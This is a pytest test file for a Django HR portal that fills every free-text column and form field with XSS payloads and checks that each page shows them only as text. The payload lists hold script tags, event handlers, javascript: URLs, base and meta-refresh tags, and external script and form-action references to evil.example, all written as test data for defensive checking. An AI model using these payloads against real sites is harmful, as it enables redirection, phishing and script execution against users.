"""Nothing a user typed is rendered as markup: hostile text in every free-text field, on every page.

GIVEN the isolation test's world (an object of every kind the portal's pages show), with every free
text column of every row overwritten by a hostile payload (a few hundred of them: <meta refresh>,
<base>, <form>, <style>, <script>, event handlers, attribute breaks, javascript: URLs),
WHEN every page and form is opened by someone who may see it, and every form is sent back with
hostile text in each of its free-text fields,
THEN no page holds an element or attribute that came from a payload, and the payloads did appear,
as text.
"""

from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.db import models, transaction
from pghistory.models import Event

from appraisal.models import Appraisal, AppraisalState
from leadership.api_clients import api_client_create
from tests import isolation_registry
from tests.factories import NotificationFactory, PeopleImportFactory
from tests.test_isolation import CASES

pytestmark = pytest.mark.django_db

MARK = "zq9"  # every injected element carries this attribute; every payload starts with its own id
PORTAL_APPS = {"leadership", "appraisal", "training", "talentpool", "governance", "dashboards",
               "communications"}
# Columns the pages and URL builders use as keys or parse (codes in URLs, stored paths, secrets):
# users never type these as free text, or a form validates them to a fixed shape first.
STRUCTURAL = {
    "ods_code", "password", "key", "link", "kind", "dimension", "source", "secret_hash", "client_id",
    "token", "token_hash", "code", "scopes", "series", "file_name", "email_state", "status",
    "dashboards.measurevalue.measure",
}

BREAKOUTS = ["", '">', "'>", "</textarea>", "</title>", "</option></select>", "-->", "</script>",
             "</style>", "</a>", "]]>"]
ELEMENTS = [
    '<meta {m} http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META {m} HTTP-EQUIV=refresh CONTENT="0;url=//evil.example">',
    '<base {m} href="https://evil.example/">',
    '<form {m} action="https://evil.example/"><button>Continue</button></form>',
    '<style {m}>body{{display:none}}</style>',
    '<script {m}>alert(1)</script>',
    '<ScRiPt {m} src=//evil.example/x.js></ScRiPt>',
    '<img {m} src=x onerror=alert(1)>',
    '<svg {m} onload=alert(1)>',
    '<iframe {m} src="javascript:alert(1)"></iframe>',
    '<a {m} href="javascript:alert(1)">Open</a>',
    '<input {m} autofocus onfocus=alert(1)>',
    '<details {m} open ontoggle=alert(1)>',
    '<link {m} rel=stylesheet href=https://evil.example/x.css>',
    '<object {m} data=https://evil.example/></object>',
    '<math {m}><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript {m}><p title="</noscript><img src=x onerror=alert(1)>">',
    '<body {m} onload=alert(1)>',
    '<video {m}><source onerror=alert(1)></video>',
    '<button {m} formaction=https://evil.example/>Save</button>',
    '<template {m}><script>alert(1)</script></template>',
    '<div {m} style="position:fixed;inset:0;background:#fff">',
]
ATTRIBUTE_BREAKS = [
    '" {m} autofocus onfocus="alert(1)',
    "' {m} autofocus onfocus='alert(1)",
    '" {m} onmouseover=alert(1) x="',
    "` {m} onclick=alert(1) `",
    '"><a {m} href=javascript:alert(1)>x</a>',
    "javascript:alert(1)//{m}",
    " JaVaScRiPt:alert(1)//{m}",
    "data:text/html,<script {m}>alert(1)</script>",
    "{{{{ 7|add:7 }}}} {{% debug %}} {m}",
    "&lt;script {m}&gt;alert(1)&lt;/script&gt;",
]
SHORT = ["<b {m}>", '"{m} x=', "<i {m}>", "'{m} x="]  # for short columns (employee numbers)


BODIES = [b + e for b in BREAKOUTS for e in ELEMENTS] + ATTRIBUTE_BREAKS + [
    b + a for b in ('">', "'>") for a in ATTRIBUTE_BREAKS]
PAYLOADS = [body.format(m=MARK) for body in BODIES]


def _hostile(slot: int, max_length: int | None) -> tuple[str, int]:
    """A unique hostile value for one column of one row (its id first), and which payload it holds."""
    prefix = f"{MARK}n{slot} "
    for offset in range(len(PAYLOADS)):
        index = (slot + offset) % len(PAYLOADS)
        if max_length is None or len(prefix + PAYLOADS[index]) <= max_length:
            return prefix + PAYLOADS[index], index
    short = SHORT[slot % len(SHORT)].format(m=MARK)
    return (f"{slot}{short}")[-max_length:], -1


class _Findings(HTMLParser):
    """Elements and attributes that came from a payload, and the payload ids shown as text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.injected: list[str] = []
        self.shown: set[str] = set()

    def handle_starttag(self, tag, attrs):
        if MARK in tag:
            self.injected.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if MARK in name or name.startswith("on"):
                self.injected.append(f"<{tag} {name}=...>")
            if name in {"href", "src", "action", "formaction", "data"} and value.strip().lower().startswith(
                    ("javascript:", "data:", "vbscript:")):
                self.injected.append(f"<{tag} {name}={value[:40]!r}>")
            self._note(value)
        if tag == "base" or (tag == "meta" and "url=" in (dict(attrs).get("content") or "").lower()):
            self.injected.append(f"<{tag}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self._note(data)

    def _note(self, text: str) -> None:
        for part in text.split(f"{MARK}n")[1:]:
            self.shown.add(f"{MARK}n" + part.split(" ", 1)[0].split('"', 1)[0])


def _free_text_fields(model) -> list[models.Field]:
    return [
        f for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField) and not f.choices and not f.primary_key
        and not {f.name, f"{model._meta.label_lower}.{f.name}"} & STRUCTURAL
        and not isinstance(f, models.SlugField | models.URLField)
    ]


def _fill_free_text() -> dict[str, tuple]:
    """Overwrite every free-text column of every portal row with a payload.

    Returns value id -> (payload index, model, pk, column name).
    """
    placed = {}
    for model in apps.get_models():
        if model._meta.app_label not in PORTAL_APPS or model._meta.proxy or issubclass(model, Event):
            continue  # audit events record the hostile values themselves, from the updates below
        fields = _free_text_fields(model)
        for pk in model.objects.values_list("pk", flat=True) if fields else ():
            values = {}
            for field in fields:
                slot = len(placed)
                values[field.name], index = _hostile(slot, field.max_length)
                placed[f"{MARK}n{slot}"] = (index, model, pk, field)
            _write(model, pk, values)
    return placed


def _write(model, pk, values: dict) -> None:
    for name in values:
        if isinstance(model._meta.get_field(name), models.EmailField):  # a check keeps them lower case
            values[name] = values[name].lower()
    model.objects.filter(pk=pk).update(**values)


def _refill(placed: dict, shown: set) -> tuple[dict[str, tuple], set[str]]:
    """Put the payloads no page showed yet into columns that a page did show.

    Returns the new value ids (as _fill_free_text) and the value ids they replaced.
    """
    missing = sorted(set(range(len(PAYLOADS))) - {placed[v][0] for v in shown if v in placed})
    columns = [v for v in sorted(shown & placed.keys()) if (placed[v][3].max_length or 10**6) >= 200]
    refilled = {}
    for offset, (index, old) in enumerate(zip(missing, columns, strict=False)):
        value_id, (_, model, pk, field) = f"{MARK}n{len(placed) + offset}", placed[old]
        _write(model, pk, {field.name: f"{value_id} {PAYLOADS[index]}"})
        refilled[value_id] = (index, model, pk, field)
    return refilled, set(columns[: len(missing)])


@pytest.fixture
def hostile_world(same_org, same_org_hr_admin, same_org_manager, other_org_hr_admin):
    world = isolation_registry.build_world({
        "same_org": same_org,
        "same_org_hr_admin": same_org_hr_admin,
        "same_org_manager": same_org_manager,
        "import": PeopleImportFactory(organisation=same_org, uploaded_by=same_org_hr_admin,
                                      row_errors=[{"line": 2, "column": "first_name", "column_label": p,
                                                   "reason": f"{p!r} is not a recognised value."}
                                                  for p in PAYLOADS[:5]],
                                      status="rejected"),
        "notification": NotificationFactory(recipient=same_org_hr_admin),
        "api_client": api_client_create(actor=None, organisation=same_org, scopes=["people:read"],
                                        name="Dashboard")[0],
    })
    # The step forms that show an objective's target and actual: the self-review and the rating.
    world["step_states"] = [AppraisalState.OBJECTIVES_AGREED, AppraisalState.SELF_REVIEW]
    return world


def _pages(world, national_admin) -> list[tuple]:
    """(actor, name, url, appraisal state) for every page, as an actor who may open it."""
    pages = []
    for name, (kind, url) in sorted(CASES.items()):
        if kind == "action":
            continue  # POST-only
        actor = national_admin if kind == "national" else world["same_org_hr_admin"]
        pages.append((actor, name, url(world), None))
        if kind == "list":
            pages.append((world["same_org_manager"], name, url(world), None))
    step_url = CASES["appraisal:appraisal_step"][1](world)
    for state in world["step_states"]:
        pages += [(world["same_org_manager"], f"step {state}", step_url, state),
                  (world["same_org_hr_admin"], f"step {state}", step_url, state)]
    return sorted(pages, key=lambda page: page[0].pk)  # one sign-in per actor


def _findings(response) -> _Findings:
    parser = _Findings()
    if "html" in response.get("Content-Type", ""):
        parser.feed(response.content.decode())
        parser.close()
    return parser


def _render(client_for, world, pages) -> tuple[list[str], dict[tuple, set]]:
    """Open each page; returns what was injected, and which value ids each page showed as text."""
    findings, shown, actor = [], {}, None
    for page in pages:
        if page[0] != actor:
            actor, client = page[0], client_for(page[0])
        if page[3]:
            Appraisal.objects.filter(pk=world["appraisal_draft"].pk).update(state=page[3])
        response = client.get(page[2])
        assert response.status_code in (200, 302, 404), f"{page[1]} answered {response.status_code}"
        parsed = _findings(response)
        findings += [f"{page[1]}: {tag}" for tag in parsed.injected]
        shown[page] = parsed.shown
    return findings, shown


def test_stored_hostile_text_is_shown_as_text_on_every_page(client_for, hostile_world, national_admin):
    placed = _fill_free_text()
    pages = _pages(hostile_world, national_admin)
    findings, shown = _render(client_for, hostile_world, pages)
    refilled, replaced = _refill(placed, set().union(*shown.values()))
    more, shown_again = _render(client_for, hostile_world, [page for page in pages if shown[page] & replaced])
    assert not findings + more, "\n".join(sorted(set(findings + more)))
    everything = {**placed, **refilled}
    rendered = {everything[v][0] for seen in [*shown.values(), *shown_again.values()] for v in seen
                if v in everything}
    assert len(rendered - {-1}) == len(PAYLOADS), f"{len(PAYLOADS) - len(rendered)} payloads reached no page"


class _Form(HTMLParser):
    """The first POST form of a page: its fields' names and values, and which ones take free text."""

    def __init__(self, path: str):
        super().__init__(convert_charrefs=True)
        self.path = path  # only the page's own form: never the header's sign-out form
        self.data: dict[str, str] = {}
        self.free_text: list[str] = []
        self.textareas: set[str] = set()
        self.in_form = self.done = False
        self.select = self.textarea = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if self.done:
            return
        if tag == "form" and (a.get("method") or "").lower() == "post" and a.get("action") in (
                None, "", self.path):
            self.in_form = True
        elif not self.in_form:
            return
        name = a.get("name")
        if tag == "input" and name:
            kind = (a.get("type") or "text").lower()
            if kind in {"text", "search", "email", "url", "tel"} and "readonly" not in a:
                self.free_text.append(name)
            if kind in {"checkbox", "radio"}:
                if "checked" in a:
                    self.data[name] = a.get("value") or "on"
                elif kind == "radio":
                    self.data.setdefault(name, a.get("value") or "")
            elif kind not in {"submit", "button", "file"}:
                self.data[name] = a.get("value") or ""
        elif tag == "textarea" and name:
            self.textarea = name
            self.free_text.append(name)
            self.textareas.add(name)
            self.data[name] = ""
        elif tag == "select" and name:
            self.select = name
        elif tag == "option" and self.select and ("selected" in a or not self.data.get(self.select)):
            self.data[self.select] = a.get("value") or ""

    def handle_endtag(self, tag):
        if tag == "form" and self.in_form:
            self.in_form, self.done = False, True
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None

    def handle_data(self, data):
        if self.textarea:
            self.data[self.textarea] += data


def _forms(client_for, world, pages) -> list[tuple]:
    """(actor, name, url, form) for each page whose own form has free-text fields."""
    forms, actor = [], None
    for page in pages:
        if page[0] != actor:
            actor, client = page[0], client_for(page[0])
        if page[3]:
            Appraisal.objects.filter(pk=world["appraisal_draft"].pk).update(state=page[3])
        response = client.get(page[2])
        if response.status_code == 200 and "html" in response.get("Content-Type", ""):
            form = _Form(page[2].split("?", 1)[0])
            form.feed(response.content.decode())
            if form.free_text:
                forms.append((*page, form))
    return forms


def test_hostile_text_typed_into_every_form_comes_back_as_text(client_for, hostile_world, national_admin):
    forms = _forms(client_for, hostile_world, _pages(hostile_world, national_admin))
    findings, shown, posted, actor = [], set(), 0, None
    while posted < len(PAYLOADS):  # round after round over the forms until every payload was typed
        for who, name, url, state, form in forms:
            if who != actor:
                actor, client = who, client_for(who)
            data = dict(form.data)
            for field in form.free_text:
                # A text area takes several lines at once; an input one value (too long: a form error).
                lines = 6 if field in form.textareas else 1
                data[field] = "\n".join(f"{MARK}n{posted + i} {PAYLOADS[(posted + i) % len(PAYLOADS)]}"
                                        for i in range(lines))
                posted += lines
            with transaction.atomic():  # each form is sent to the same world: undo what it saved
                if state:
                    Appraisal.objects.filter(pk=hostile_world["appraisal_draft"].pk).update(state=state)
                response = client.post(url, data, follow=True)
                assert response.status_code in (200, 404), f"{name} answered {response.status_code}"
                parsed = _findings(response)
                findings += [f"POST {name}: {tag}" for tag in parsed.injected]
                shown |= parsed.shown
                transaction.set_rollback(True)
    assert not findings, "\n".join(sorted(set(findings)))
    assert len(forms) >= 40 and len(shown) >= len(PAYLOADS) // 2, (len(forms), len(shown))
